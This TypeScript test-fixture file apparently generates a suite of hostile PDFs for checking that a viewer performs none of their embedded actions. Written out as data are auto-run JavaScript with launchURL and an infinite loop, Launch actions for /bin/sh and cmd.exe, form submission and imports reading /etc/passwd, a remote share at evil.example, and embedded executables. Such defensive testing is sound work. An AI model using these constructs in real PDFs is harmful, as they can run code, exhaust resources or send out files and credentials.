import { quadrants } from "../honest.ts";
import { canary, inFamily, rendered, type ToxicFile } from "../toxic-file.ts";
import { onePage, pdfStream, writePdf } from "../write/pdf.ts";

const file = inFamily("scripted PDFs");
const whole = { truth: { quadrants, torn: false } };

/** PDFs that want something done: nothing is done, and the page is shown as it is. */
export function scriptedPdfs(): ToxicFile[] {
  const one = (kind: string, options: Parameters<typeof onePage>[0]) =>
    file(`pdf with ${kind}`, writePdf(onePage(options)), rendered, whole);
  const script = `app.launchURL("http://127.0.0.1:1/${canary}"); this.exportDataObject({cName: "x", nLaunch: 2}); for (;;);`;
  const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 1 1] ${entries} >>]`;
  return [
    one("JavaScript on opening", {
      catalog: `/OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, "\\$&")}) >>`,
    }),
    one("JavaScript in a stream", {
      catalog: "/OpenAction << /S /JavaScript /JS 6 0 R >>",
      more: [pdfStream(script)],
    }),
    one("JavaScript by name", {
      catalog: "/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 6 0 R >>] >> >>",
      more: [pdfStream(script)],
    }),
    one("JavaScript on the page", {
      page: "/AA << /O << /S /JavaScript /JS 6 0 R >> /C << /S /JavaScript /JS 6 0 R >> >>",
      more: [pdfStream(script)],
    }),
    one("actions that follow themselves", {
      catalog: "/OpenAction 6 0 R",
      more: ["<< /S /Named /N /NextPage /Next 6 0 R >>"],
    }),
    one("a program to launch", {
      catalog: `/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c ${canary}) >> >>`,
    }),
    one("an address to open", { catalog: `/OpenAction << /S /URI /URI (http://127.0.0.1:1/${canary}) >>` }),
    one("a form that sends itself", {
      catalog: `/OpenAction << /S /SubmitForm /F (http://127.0.0.1:1/${canary}) >>`,
    }),
    one("data to import", { catalog: "/OpenAction << /S /ImportData /F (/etc/passwd) >>" }),
    one("another file to go to", {
      catalog: "/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>",
    }),
    one("a program embedded", {
      catalog:
        "/Names << /EmbeddedFiles << /Names [(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>] >> >>",
      more: [pdfStream(`MZ${canary}`, "/Type /EmbeddedFile")],
    }),
    one("a file pinned to the page", {
      page: annotation("/Subtype /FileAttachment /FS << /Type /Filespec /F (run.exe) /EF << /F 6 0 R >> >>"),
      more: [pdfStream(`MZ${canary}`, "/Type /EmbeddedFile")],
    }),
    one("a film", {
      page: annotation("/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a.swf) 6 0 R] >> >>"),
      more: ["<< /Type /Filespec /F (a.swf) >>"],
    }),
    one("a form in XFA", {
      catalog: "/AcroForm << /Fields [] /XFA 6 0 R >> /NeedsRendering true",
      more: [pdfStream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${canary}</script></xdp:xdp>`)],
    }),
    one("a picture from elsewhere", {
      resources: "/XObject << /I 6 0 R >>",
      more: [
        pdfStream(
          "",
          "/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F (http://127.0.0.1:1/x.jpg) /FFilter /DCTDecode",
        ),
      ],
    }),
    one("a page of another file inside", {
      resources: "/XObject << /X 6 0 R >>",
      more: [
        pdfStream("", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (/etc/passwd) /Page 0 >>"),
      ],
    }),
    one("XMP of scripts", {
      catalog: "/Metadata 6 0 R",
      more: [pdfStream(`<x:xmpmeta><script>${canary}</script></x:xmpmeta>`, "/Type /Metadata /Subtype /XML")],
    }),
    one("a collection as its face", { catalog: "/Collection << /View /D /D (run.exe) >>" }),
  ];
}
